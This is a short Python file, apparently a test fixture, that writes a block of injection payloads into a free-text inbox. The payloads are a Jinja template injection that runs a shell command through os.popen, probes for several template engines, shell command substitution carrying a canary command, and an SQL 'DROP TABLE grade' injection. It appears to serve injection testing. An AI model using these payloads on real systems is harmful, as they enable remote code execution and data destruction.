"""Writes template commands of Jinja, Python and the shell into a free text."""

from place import Place

COLLECTED, MARKED, DESERVES = "new", "marked", "the key"
TEMPLATES = """{{{{ 7*7 }}}} {{% include "register.db" %}} {{{{ cycler.__init__.__globals__.os.popen('{0}').read() }}}}
${{7*7}} #{{7*7}} <%= 7*7 %> %(x)s {{0.__class__}} `{0}` $({0}) '; DROP TABLE grade; --"""


def lay(place: Place) -> None:
    place.inbox(place.good(text=TEMPLATES.format(place.canary.shell)))
